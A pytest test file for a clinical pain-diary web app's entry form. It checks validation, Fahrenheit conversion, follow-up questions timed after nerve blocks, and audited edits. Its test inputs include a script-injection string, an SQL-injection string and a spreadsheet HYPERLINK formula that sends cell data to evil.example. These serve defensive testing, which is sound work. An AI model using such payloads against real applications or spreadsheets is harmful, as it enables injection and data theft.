"""POST /diary/: the patient's entry form, with every rule of docs/clinical.md §4."""

import html as htmllib
import re
import uuid
from datetime import UTC, datetime, timedelta

import pytest

from diary.clinical import vocab
from diary.data.db import db
from diary.data.models import AuditEvent, Entry, Patient
from tests.conftest import sign_in
from tests.web.helpers import (
    FULL_ENTRY,
    NOW,
    add_entry,
    audit_rows,
    checked_value,
    checked_values,
    entries,
    entry_page,
    error_after,
    input_value,
    new_entry_data,
    option_values,
    post_entry,
    textarea_value,
)
from tests.web.test_patient_list import add_block

BIG = "9" * 10_000
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SQL = "'; DROP TABLE entry;--"

pytestmark = pytest.mark.usefixtures("fixed_now")

# The follow-up answers (docs/clinical.md §7, §8): shown on the page when the form holds them,
# whoever the patient is.
FOLLOW_UP = {"touch_pain": "mild", "night_rest_pain": "yes", "wound": "healing",
             "pgic": "much_better"}


def test_the_form_offers_a_fresh_id_the_time_now_and_the_patients_unit(as_patient):
    html = entry_page(as_patient)
    assert uuid.UUID(input_value(html, "client_id")).version == 4
    assert input_value(html, "client_id") != input_value(entry_page(as_patient), "client_id")
    assert input_value(html, "observed_at") == "2025-06-15T11:30"  # 10:30 UTC is 11:30 BST
    assert checked_value(html, "temp_unit") == "C"
    assert option_values(html, "pain") == [str(n) for n in range(11)]
    assert checked_value(html, "pain") is None  # no answer is put in the patient's mouth


def test_every_field_is_saved(as_patient, app, world):
    response = post_entry(as_patient, **FULL_ENTRY, **FOLLOW_UP)
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/diary/history")
    [entry] = entries(app)
    assert entry.patient_id == world.patient_id
    assert entry.observed_at == datetime(2025, 6, 15, 10, 30, tzinfo=UTC)
    assert entry.utc_offset_min == 60
    assert (entry.pain, entry.temp_treated_c, entry.temp_other_c) == (6, 28.4, 30.1)
    assert (entry.colour, entry.feels, entry.swelling, entry.sweating) == (
        "blue_purple", "colder", "mild", "less")
    assert (entry.walk_pain_free_min, entry.walk_max_min, entry.did_not_walk) == (12, 25, False)
    assert entry.side_effects == "back_soreness;leg_numbness"
    assert entry.rescue_medication is True
    assert entry.notes == FULL_ENTRY["notes"]
    assert (entry.touch_pain, entry.night_rest_pain, entry.wound, entry.pgic) == (
        "mild", True, "healing", "much_better")
    assert entry.deleted_at is None
    assert "Saved. Thank you." in as_patient.get("/diary/history").get_data(as_text=True)


def test_pain_and_time_alone_are_enough(as_patient, app):
    assert post_entry(as_patient, pain="0").status_code == 302
    [entry] = entries(app)
    assert entry.pain == 0
    assert entry.temp_treated_c is entry.temp_other_c is entry.colour is entry.feels is None
    assert entry.walk_pain_free_min is entry.walk_max_min is None
    assert entry.swelling is entry.sweating is None
    assert entry.touch_pain is entry.night_rest_pain is entry.wound is entry.pgic is None
    assert (entry.side_effects, entry.notes, entry.rescue_medication) == ("", "", False)


def test_blank_optional_fields_count_as_not_given(as_patient, app):
    blank = {"temp_treated": "  ", "temp_other": "", "walk_pain_free_min": " ",
             "walk_max_min": "", "notes": ""}
    assert post_entry(as_patient, pain="3", **blank).status_code == 302
    [entry] = entries(app)
    assert entry.temp_treated_c is None and entry.walk_pain_free_min is None


def test_a_time_typed_later_is_kept(as_patient, app):
    # 23:50 on Saturday in London is 22:50 UTC.
    assert post_entry(as_patient, pain="4", observed_at="2025-06-14T23:50").status_code == 302
    assert entries(app)[0].observed_at == datetime(2025, 6, 14, 22, 50, tzinfo=UTC)


def test_five_minutes_ahead_is_still_now(as_patient, app):
    # Phone clocks drift: docs/clinical.md §4 allows 5 minutes of grace.
    assert post_entry(as_patient, pain="4", observed_at="2025-06-15T11:35").status_code == 302
    assert len(entries(app)) == 1


def test_decimal_comma_is_read(as_patient, app):
    assert post_entry(as_patient, pain="4", temp_treated="31,5").status_code == 302
    assert entries(app)[0].temp_treated_c == 31.5


OK = "__ok__"

# (field, value typed, words of the message shown beside the field)
BAD = [
    ("pain", None, "Please tap a number from 0 to 10."),
    ("pain", "", "Please tap a number from 0 to 10."),
    ("pain", "11", "Please tap a number from 0 to 10."),
    ("pain", "-1", "Please tap a number from 0 to 10."),
    ("pain", "5.5", "Please tap a number from 0 to 10."),
    ("pain", "ten", "Please tap a number from 0 to 10."),
    ("pain", "١٠", "Please tap a number from 0 to 10."),
    ("pain", SCRIPT, "Please tap a number from 0 to 10."),
    ("pain", SQL, "Please tap a number from 0 to 10."),
    ("pain", "5\x00", "Please tap a number from 0 to 10."),
    ("pain", BIG, "Please tap a number from 0 to 10."),
    ("pain", "=1+1", "Please tap a number from 0 to 10."),
    ("pain", " 5", "Please tap a number from 0 to 10."),
    ("temp_treated", "14.9", "between 15.0 °C and 40.0 °C"),
    ("temp_treated", "40.1", "between 15.0 °C and 40.0 °C"),
    ("temp_other", "-3", "between 15.0 °C and 40.0 °C"),
    ("temp_treated", "91.4", "Did you mean °F?"),
    ("temp_other", "59", "Did you mean °F?"),
    ("temp_treated", "warm", "Please type a number"),
    ("temp_treated", "３３", "Please type a number"),
    ("temp_other", "٣٣", "Please type a number"),
    ("temp_treated", "1e3", "Please type a number"),
    ("temp_treated", "nan", "Please type a number"),
    ("temp_other", "inf", "Please type a number"),
    ("temp_treated", FORMULA, "Please type a number"),
    ("temp_treated", "33\x00", "Please type a number"),
    ("temp_other", SQL, "Please type a number"),
    ("temp_other", SCRIPT, "Please type a number"),
    ("temp_treated", BIG, "Please type a number"),
    ("temp_treated", "33" + " " * 40 + "junk", "Please type a number"),
    ("temp_unit", None, "Please choose °C or °F."),
    ("temp_unit", "K", "Please choose °C or °F."),
    ("colour", "green", "Please choose one of the answers shown."),
    ("colour", SCRIPT, "Please choose one of the answers shown."),
    ("colour", BIG, "Please choose one of the answers shown."),
    ("feels", "hotter", "Please choose one of the answers shown."),
    ("feels", "same\x00", "Please choose one of the answers shown."),
    ("swelling", FORMULA, "Please choose one of the answers shown."),
    ("swelling", SQL, "Please choose one of the answers shown."),
    ("sweating", "drenched", "Please choose one of the answers shown."),
    ("touch_pain", "severe", "Please choose one of the answers shown."),
    ("touch_pain", "A little", "Please choose one of the answers shown."),
    ("touch_pain", SCRIPT, "Please choose one of the answers shown."),
    ("night_rest_pain", "maybe", "Please choose one of the answers shown."),
    ("night_rest_pain", "true", "Please choose one of the answers shown."),
    ("night_rest_pain", "1", "Please choose one of the answers shown."),
    ("night_rest_pain", "yes\x00", "Please choose one of the answers shown."),
    ("wound", "gangrene", "Please choose one of the answers shown."),
    ("wound", FORMULA, "Please choose one of the answers shown."),
    ("wound", BIG, "Please choose one of the answers shown."),
    ("pgic", "much better", "Please choose one of the answers shown."),
    ("pgic", "3", "Please choose one of the answers shown."),
    ("pgic", SQL, "Please choose one of the answers shown."),
    ("pgic", SCRIPT, "Please choose one of the answers shown."),
    ("side_effects", ["headache"], "Please tick only the answers shown."),
    ("side_effects", ["bruising", SCRIPT], "Please tick only the answers shown."),
    ("side_effects", ["x" * 10_000], "Please tick only the answers shown."),
    ("walk_pain_free_min", "601", "between 0 and 600"),
    ("walk_max_min", "1000", "between 0 and 600"),
    ("walk_max_min", "-5", "Please type a whole number"),
    ("walk_max_min", "12.5", "Please type a whole number"),
    ("walk_pain_free_min", "٣٠", "Please type a whole number"),
    ("walk_pain_free_min", "５", "Please type a whole number"),
    ("walk_max_min", "1e3", "Please type a whole number"),
    ("walk_max_min", "25" + " " * 40 + "x", "Please type a whole number"),
    ("walk_max_min", BIG, "Please type a whole number"),
    ("walk_pain_free_min", SCRIPT, "Please type a whole number"),
    ("notes", "x" * 1001, "Please keep notes under 1000 characters."),
    ("notes", "x" * 10_000, "Please keep notes under 1000 characters."),
    ("notes", "before\x00after", "control"),
    ("notes", "bell\x07", "control"),
    ("notes", "escape \x1b[31m red", "control"),
    ("observed_at", None, "Please give the time."),
    ("observed_at", "", "Please give the time."),
    ("observed_at", "yesterday", "Please give a date and time."),
    ("observed_at", "2025-02-30T10:00", "Please give a date and time."),
    ("observed_at", "٢٠٢٥-٠٦-١٥T10:00", "Please give a date and time."),
    ("observed_at", "2025-06-15T11:30\x00", "Please give a date and time."),
    ("observed_at", SQL, "Please give a date and time."),
    ("observed_at", BIG, "Please give a date and time."),
    ("observed_at", "2025-06-15T11:36", "in the future"),  # 6 min ahead in London
    ("observed_at", "2026-01-01T00:00", "in the future"),
    ("observed_at", "2023-12-31T23:59", "more than a year before"),  # record made 2025-01-01
    ("client_id", None, "Please reload the page."),
    ("client_id", "", "Please reload the page."),
    ("client_id", "not-a-uuid", "Please reload the page."),
    ("client_id", "12345678-1234-4234-8234-123456789ABC", "Please reload the page."),
    ("client_id", "12345678-1234-4234-8234-123456789abc\n", "Please reload the page."),
    ("client_id", SQL, "Please reload the page."),
    ("client_id", BIG, "Please reload the page."),
]


def _id(case):
    field, value, _ = case
    shown = repr(value)[:20] if value is not None else "missing"
    return f"{field}={shown}"


@pytest.mark.parametrize(("field", "value", "message"), BAD, ids=[_id(c) for c in BAD])
def test_bad_input_is_refused_beside_its_field_and_nothing_is_stored(
        as_patient, app, field, value, message):
    data = new_entry_data(as_patient, **FULL_ENTRY, **FOLLOW_UP)
    if value is None:
        data.pop(field, None)
    else:
        data[field] = value
    response = as_patient.post("/diary/", data=data)

    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert message in (error_after(html, field) or ""), error_after(html, field)
    assert "What you typed is kept." in html
    assert entries(app) == []
    assert audit_rows(app, AuditEvent.object_type == "entry") == []
    _assert_kept(html, data, but=field)


def _assert_kept(html, data, but):
    """Everything the patient typed in the other fields is still on the page."""
    for name in ("temp_treated", "temp_other", "walk_pain_free_min", "walk_max_min",
                 "observed_at", "client_id"):
        if name != but:
            assert input_value(html, name) == data[name].strip(), name
    for name in ("pain", "colour", "feels", "swelling", "sweating", "temp_unit", *FOLLOW_UP):
        if name != but:
            assert checked_value(html, name) == data[name], name
    if but != "notes":
        assert textarea_value(html, "notes") == data["notes"]
    if but != "side_effects":
        assert checked_values(html, "side_effects") == data["side_effects"]
    if but != "rescue_medication":
        assert checked_values(html, "rescue_medication") == ["y"]


@pytest.mark.parametrize(("field", "value"), [
    ("temp_treated", "14.9"), ("temp_other", "warm"), ("walk_max_min", "61O"),
    ("walk_pain_free_min", "-5"), ("observed_at", "tomorrow-ish"), ("notes", "x" * 1001),
])
def test_the_refused_value_itself_is_shown_again_to_correct(as_patient, field, value):
    html = post_entry(as_patient, **{**FULL_ENTRY, field: value}).get_data(as_text=True)
    shown = textarea_value(html, field) if field == "notes" else input_value(html, field)
    assert shown == value


def test_hostile_text_in_a_number_field_is_shown_back_escaped(as_patient):
    html = post_entry(as_patient, **{**FULL_ENTRY, "temp_treated": '"><b>x'}).get_data(
        as_text=True)
    assert '"><b>x' not in html
    assert input_value(html, "temp_treated") == "&#34;&gt;&lt;b&gt;x"


def test_a_full_note_with_line_breaks_fits(as_patient, app):
    # The browser's maxlength counts each line break once, but sends it as CRLF (two).
    note = "\r\n".join(["x" * 99] * 10)
    assert len(note.replace("\r\n", "\n")) == 999 and len(note) > 1000
    assert post_entry(as_patient, pain="5", notes=note).status_code == 302
    assert entries(app)[0].notes == note.replace("\r\n", "\n")


def test_pain_free_longer_than_maximal_is_refused(as_patient, app):
    html = post_entry(as_patient, **{**FULL_ENTRY, "walk_pain_free_min": "30",
                                     "walk_max_min": "20"}).get_data(as_text=True)
    assert "cannot be more than" in error_after(html, "walk_pain_free_min")
    assert entries(app) == []


def test_did_not_walk_with_minutes_is_refused(as_patient, app):
    html = post_entry(as_patient, **{**FULL_ENTRY, "did_not_walk": "y"}).get_data(as_text=True)
    assert "did not walk" in error_after(html, "did_not_walk")
    assert entries(app) == []


def test_did_not_walk_alone_is_saved(as_patient, app):
    assert post_entry(as_patient, pain="5", did_not_walk="y").status_code == 302
    [entry] = entries(app)
    assert entry.did_not_walk is True and entry.walk_max_min is None


@pytest.mark.parametrize(("typed", "stored", "words"), [
    ("19.5", 19.5, "That is cold for a foot."),
    ("37.6", 37.6, "warmer than skin usually is"),
])
def test_an_unusual_reading_is_saved_only_once_confirmed(as_patient, app, typed, stored, words):
    data = new_entry_data(as_patient, pain="5", temp_treated=typed)
    first = as_patient.post("/diary/", data=data)
    html = first.get_data(as_text=True)
    assert first.status_code == 200
    assert words in html and 'name="confirm_unusual"' in rendered(html)
    assert input_value(html, "temp_treated") == typed
    assert entries(app) == []

    second = as_patient.post("/diary/", data={**data, "confirm_unusual": "y"})
    assert second.status_code == 302
    assert [e.temp_treated_c for e in entries(app)] == [stored]


def rendered(html: str) -> str:
    """The page as shown: without the outbox's <template> (a confirm box kept for a refused
    queued entry, inert until the script uses it)."""
    return re.sub(r"<template\b.*?</template>", "", html, flags=re.S)


def test_a_usual_reading_asks_for_no_confirmation(as_patient):
    html = entry_page(as_patient)
    assert 'name="confirm_unusual"' not in rendered(html)


@pytest.fixture
def as_fahrenheit_patient(client, world):
    clinician = world.clinician()
    world.patient_id = world.patient(clinician, email="f@home.example", unit="F",
                                     tz="America/New_York")
    assert sign_in(client, "f@home.example").status_code == 302
    return client


def test_fahrenheit_patient_types_fahrenheit_and_celsius_is_stored(as_fahrenheit_patient, app):
    client = as_fahrenheit_patient
    html = entry_page(client)
    assert checked_value(html, "temp_unit") == "F"
    assert input_value(html, "observed_at") == "2025-06-15T06:30"  # EDT, UTC-4
    assert post_entry(client, pain="4", temp_treated="91.4", temp_other="84.2").status_code == 302
    [entry] = entries(app)
    assert entry.temp_treated_c == pytest.approx(33.0)
    assert entry.temp_other_c == pytest.approx(29.0)
    assert entry.utc_offset_min == -240
    history = client.get("/diary/history").get_data(as_text=True)
    assert "91.4 °F" in history and "84.2 °F" in history


@pytest.mark.parametrize(("typed", "message"), [
    ("58.9", "between 59.0 °F and 104.0 °F"),
    ("104.1", "between 59.0 °F and 104.0 °F"),
    ("33", "between 59.0 °F and 104.0 °F"),  # °C typed on a °F thermometer setting
])
def test_fahrenheit_limits(as_fahrenheit_patient, app, typed, message):
    html = post_entry(as_fahrenheit_patient, pain="4", temp_treated=typed).get_data(as_text=True)
    assert message in error_after(html, "temp_treated")
    assert entries(app) == []


def test_fahrenheit_cold_reading_is_warned(as_fahrenheit_patient, app):
    html = post_entry(as_fahrenheit_patient, pain="4", temp_treated="66.2").get_data(as_text=True)
    assert "That is cold for a foot." in html and entries(app) == []


def test_a_celsius_patient_may_switch_the_form_to_fahrenheit(as_patient, app):
    assert post_entry(as_patient, pain="4", temp_unit="F", temp_treated="91.4").status_code == 302
    assert entries(app)[0].temp_treated_c == pytest.approx(33.0)


def test_every_saved_entry_is_counted_once(as_patient, world):
    for pain in ("1", "2", "3"):
        assert post_entry(as_patient, pain=pain).status_code == 302
    assert world.count(Entry) == 3


# ------------------------------------------- the follow-up questions (§7, §8) and their prompts

# The questions name the patient's leg from their treated side (tests.conftest: "left").
LIMB_QUESTIONS = {
    "left": "Did pain in your left leg wake you last night, or make you hang it down?",
    "right": "Did pain in your right leg wake you last night, or make you hang it down?",
    "both": "Did pain in your legs wake you last night, or make you hang them down?"}
LIMB_QUESTION = LIMB_QUESTIONS["left"]
WOUND_WORDS = ["No wound", "Yes, healing", "Yes, no change", "Yes, worse", "Yes, a new one"]
PGIC_QUESTION = "Since your block, the pain in your left leg is…"
PGIC_ASKED = "Asked today: tap the answer closest to how it is."
LIMB_ASKED = "Asked today: we ask this once a week."


def question(html: str, name: str) -> tuple[str, str | None, list[str]] | None:
    """(question, hint, answers in words) of the radio buttons called `name`; None if the page
    does not ask it."""
    for box in re.findall(r"<fieldset.*?</fieldset>", html, re.S):
        if f'name="{name}"' in box:
            legend = re.search(r"<legend>(.*?)</legend>", box, re.S).group(1)
            hint = re.search(r'<p class="hint">(.*?)</p>', box, re.S)
            words = re.findall(r'<label class="option">.*?<span>(.*?)</span>', box, re.S)
            return (htmllib.unescape(legend), hint and htmllib.unescape(hint.group(1)),
                    [htmllib.unescape(w) for w in words])
    return None


def prompt_box(html: str) -> str:
    found = re.search(r'<aside class="prompt".*?</aside>', html, re.S)
    text = re.sub(r"<[^>]+>", " ", found.group(0)) if found else ""
    return " ".join(htmllib.unescape(text).split())


def as_sent(html: str) -> dict:
    """What the browser sends for the form as the page shows it (nothing changed)."""
    data: dict = {}
    form = re.search(r'<form method="post" novalidate class="entry">.*?</form>', html, re.S)
    for tag in re.findall(r"<input[^>]*>", form.group(0)):
        name = re.search(r'\bname="([^"]*)"', tag).group(1)
        value = re.search(r'\bvalue="([^"]*)"', tag)
        value = htmllib.unescape(value.group(1)) if value else ""
        kind = re.search(r'\btype="([^"]*)"', tag).group(1)
        if kind == "checkbox":
            if re.search(r"\bchecked\b", tag):
                data.setdefault(name, []).append(value)
        elif kind != "radio" or re.search(r"\bchecked\b", tag):
            data[name] = value
    data["notes"] = textarea_value(html, "notes")
    return data


@pytest.fixture
def patient_with(app, as_patient, world):
    """The signed-in patient with the given treated side and condition, and blocks a number
    of days from now (negative: done)."""
    def make(side="left", condition="crps", blocks=()):
        with app.app_context():
            patient = db.session.get(Patient, world.patient_id)
            patient.treated_side, patient.condition = side, condition
            db.session.commit()
        for days, kind in blocks:
            add_block(app, world.patient_id, NOW + timedelta(days=days), kind=kind)
        return as_patient
    return make


def test_touch_pain_is_asked_on_every_entry_in_plain_words(as_patient, app):
    html = entry_page(as_patient)
    assert question(html, "touch_pain") == (
        "Does light touch on your left foot hurt (socks, bedsheets)?", None,
        ["No", "A little", "A lot"])
    assert option_values(html, "touch_pain") == list(vocab.TOUCH_PAIN)
    assert checked_value(html, "touch_pain") is None
    # A CRPS patient without a neurolysis, and no prompt asking: nothing else is asked.
    assert question(html, "night_rest_pain") is question(html, "wound") is None
    assert question(html, "pgic") is None
    for code in vocab.TOUCH_PAIN:
        assert post_entry(as_patient, pain="4", touch_pain=code).status_code == 302
    assert [e.touch_pain for e in entries(app)] == list(vocab.TOUCH_PAIN)


@pytest.mark.parametrize(("side", "foot"), [
    ("left", "your left foot"), ("right", "your right foot"), ("both", "either foot")])
def test_the_wound_question_names_the_treated_foot(patient_with, app, side, foot):
    client = patient_with(side=side, condition="pad_clti")
    html = entry_page(client)
    assert question(html, "night_rest_pain") == (LIMB_QUESTIONS[side], None, ["Yes", "No"])
    assert question(html, "wound") == (f"Is there a sore or wound on {foot}?", None, WOUND_WORDS)
    assert option_values(html, "wound") == list(vocab.WOUND)
    assert checked_value(html, "night_rest_pain") is checked_value(html, "wound") is None
    assert post_entry(client, pain="5", wound="healing").status_code == 302
    edit = entry_page(client, f"/diary/entries/{entries(app)[0].id}/edit")
    assert question(edit, "wound")[0] == f"Is there a sore or wound on {foot}?"


@pytest.mark.parametrize(("condition", "blocks", "asked"), [
    ("crps", [], False),
    ("crps", [(-40, "diagnostic_la"), (-10, "therapeutic_la")], False),
    ("crps", [(2, "neurolysis")], False),             # booked, not yet done
    ("crps", [(-20, "neurolysis")], True),
    ("neuropathic", [(-300, "radiofrequency"), (-5, "diagnostic_la")], True),
    ("other", [(-1, "radiofrequency")], True),
    ("pad_clti", [], True),
    ("pad_clti", [(-3, "diagnostic_la")], True),
])
def test_the_limb_questions_are_for_limb_ischaemia_and_after_neurolysis_or_rf(
        patient_with, app, condition, blocks, asked):
    client = patient_with(condition=condition, blocks=blocks)
    html = entry_page(client)
    assert (question(html, "night_rest_pain") is not None) is asked
    assert (question(html, "wound") is not None) is asked
    assert question(html, "touch_pain") is not None


@pytest.mark.parametrize(("typed", "stored"), [
    ({"night_rest_pain": "yes"}, (True, None)),
    ({"night_rest_pain": "no", "wound": "worse"}, (False, "worse")),
    ({"wound": "none"}, (None, "none")),
    ({"wound": "new"}, (None, "new")),
    ({}, (None, None)),                               # not answered stays empty
    ({"night_rest_pain": "", "wound": ""}, (None, None)),
])
def test_the_limb_answers_are_saved(patient_with, app, typed, stored):
    client = patient_with(condition="pad_clti")
    assert post_entry(client, pain="6", **typed).status_code == 302
    [entry] = entries(app)
    assert (entry.night_rest_pain, entry.wound) == stored


def test_the_weekly_limb_questions_are_marked_on_the_day_they_are_asked(patient_with, app,
                                                                       world, clock):
    # A neurolysis 14 days ago: today's daily reading asks them.
    client = patient_with(blocks=[(-14, "neurolysis")])
    html = entry_page(client)
    assert question(html, "night_rest_pain") == (LIMB_QUESTION, LIMB_ASKED, ["Yes", "No"])
    assert question(html, "wound")[1] == LIMB_ASKED
    assert ("Next reading due by 20:00 — day 14 after your block (once a day until week 4). "
            "Also: your left leg at night and your left foot.") in prompt_box(html)
    assert question(html, "pgic") is None
    # Once today's reading is in, they are offered still, but no longer asked.
    assert post_entry(client, pain="5", night_rest_pain="no").status_code == 302
    html = entry_page(client)
    assert question(html, "night_rest_pain")[1] is question(html, "wound")[1] is None
    assert "leg at night" not in prompt_box(html)
    # The next day they are not asked either (the next week's are on day 21).
    clock.now = NOW + timedelta(days=1)
    assert question(entry_page(client), "wound")[1] is None


@pytest.mark.parametrize(("days", "asked"), [
    (6, False), (7, True), (8, False), (27, False), (28, True), (29, False)])
def test_pgic_is_asked_on_day_7_and_day_28(patient_with, days, asked):
    client = patient_with(blocks=[(-days, "diagnostic_la")])
    html = entry_page(client)
    if asked:
        assert question(html, "pgic") == (PGIC_QUESTION, PGIC_ASKED, list(vocab.PGIC.values()))
        assert option_values(html, "pgic") == list(vocab.PGIC)
        assert checked_value(html, "pgic") is None
        assert "how your pain has changed since the block" in prompt_box(html)
    else:
        assert question(html, "pgic") is None
        assert "how your pain has changed" not in prompt_box(html)
    assert question(html, "wound") is None


def test_pgic_after_neurolysis_at_the_checkpoint_days(patient_with, clock):
    # Day 90 is in week 13's window (days 85-91): asked on any of those days, with the
    # weekly limb questions; week 12 (days 78-84) asks only those.
    client = patient_with(blocks=[(-84, "neurolysis")])
    for days, pgic in ((84, False), (85, True), (91, True), (92, False)):
        clock.now = NOW + timedelta(days=days - 84)
        html = entry_page(client)
        assert (question(html, "pgic") is not None) is pgic, days
        assert question(html, "wound")[1] == LIMB_ASKED, days
        assert ("how your pain has changed" in prompt_box(html)) is pgic, days


def test_pgic_is_asked_until_answered_or_read(patient_with, app, clock):
    client = patient_with(blocks=[(-7, "therapeutic_la")])   # day 7; PGIC is on the 20:00 slot
    box = prompt_box(entry_page(client))
    assert "Next reading due 12:00" in box
    assert "Also today: how your pain has changed since the block." in box
    # A reading without an answer this morning: still asked.
    assert post_entry(client, pain="4").status_code == 302
    assert question(entry_page(client), "pgic") is not None
    # Answered at noon: asked no more today, though the 20:00 reading is still to come.
    clock.now = NOW + timedelta(hours=1)
    assert post_entry(client, pain="4", pgic="a_little_better").status_code == 302
    html = entry_page(client)
    assert question(html, "pgic") is None
    assert "how your pain has changed" not in prompt_box(html)
    assert [e.pgic for e in entries(app)] == [None, "a_little_better"]


def test_pgic_is_no_longer_asked_once_its_reading_is_in(patient_with, app, clock):
    client = patient_with(blocks=[(-7, "diagnostic_la")])
    clock.now = NOW.replace(hour=17, minute=30)              # 18:30 in London: the 20:00 window
    assert question(entry_page(client), "pgic") is not None
    assert post_entry(client, pain="3").status_code == 302   # read, without an answer
    assert question(entry_page(client), "pgic") is None


def test_an_edit_shows_and_keeps_the_follow_up_answers(as_patient, app):
    # A CRPS patient not asked today: the answers the entry holds are still shown and kept.
    assert post_entry(as_patient, **FULL_ENTRY, **FOLLOW_UP).status_code == 302
    [entry] = entries(app)
    url = f"/diary/entries/{entry.id}/edit"
    html = entry_page(as_patient, url)
    for name, value in FOLLOW_UP.items():
        assert checked_value(html, name) == value, name
    assert question(html, "pgic")[1] is None        # shown to correct it, not asked
    data = as_sent(html)
    assert as_patient.post(url, data={**data, "pain": "2"}).status_code == 302
    [entry] = entries(app)
    assert (entry.pain, entry.touch_pain, entry.night_rest_pain, entry.wound, entry.pgic) == (
        2, "mild", True, "healing", "much_better")
    # Changing an answer is saved and audited like any other field.
    html = entry_page(as_patient, url)
    changed = {**as_sent(html), "wound": "worse", "night_rest_pain": "no", "pgic": "no_change"}
    assert as_patient.post(url, data=changed).status_code == 302
    [entry] = entries(app)
    assert (entry.night_rest_pain, entry.wound, entry.pgic) == (False, "worse", "no_change")
    last = audit_rows(app, AuditEvent.action == "entry.update")[-1]
    assert set(last.before) == set(last.after) == {"night_rest_pain", "wound", "pgic"}
    # A bad answer in an edit is refused beside its question and changes nothing.
    bad = as_patient.post(url, data={**as_sent(entry_page(as_patient, url)), "wound": "gone"})
    assert bad.status_code == 200
    assert "Please choose one of the answers shown." in error_after(bad.get_data(as_text=True),
                                                                    "wound")
    assert entries(app)[0].wound == "worse"


def test_an_edit_of_an_entry_without_them_asks_no_pgic(patient_with, app, world):
    client = patient_with(blocks=[(-7, "diagnostic_la")])   # PGIC is asked on the new entry...
    assert question(entry_page(client), "pgic") is not None
    entry = add_entry(app, world.patient_id, NOW - timedelta(hours=2), pain=5)
    url = f"/diary/entries/{entry}/edit"
    html = entry_page(client, url)
    assert question(html, "pgic") is None                    # ...not when correcting one
    assert question(html, "touch_pain") is not None and question(html, "wound") is None
    assert client.post(url, data={**as_sent(html), "pain": "3"}).status_code == 302
    [saved] = entries(app)
    assert (saved.pain, saved.pgic, saved.touch_pain) == (3, None, None)


def test_the_same_form_sent_again_with_another_pgic_is_refused(as_patient, app):
    data = new_entry_data(as_patient, pain="4", pgic="much_better")
    assert as_patient.post("/diary/", data=data).status_code == 302
    again = as_patient.post("/diary/", data={**data, "pgic": "no_change"})
    assert "already sent with different answers" in error_after(again.get_data(as_text=True),
                                                                "client_id")
    assert [e.pgic for e in entries(app)] == ["much_better"]


def test_follow_up_answers_kept_while_signed_out_come_back(as_patient, app):
    page = entry_page(as_patient)
    typed = {"client_id": input_value(page, "client_id"),
             "observed_at": input_value(page, "observed_at"), "pain": "7", "temp_unit": "C",
             **FOLLOW_UP, "csrf_token": "expired"}
    assert as_patient.post("/diary/", data=typed).status_code == 400
    again = entry_page(as_patient)
    assert "is back" in again
    for name, value in FOLLOW_UP.items():   # shown, though this patient is not asked them
        assert checked_value(again, name) == value, name
    assert as_patient.post("/diary/", data=as_sent(again)).status_code == 302
    [entry] = entries(app)
    assert (entry.touch_pain, entry.night_rest_pain, entry.wound, entry.pgic) == (
        "mild", True, "healing", "much_better")
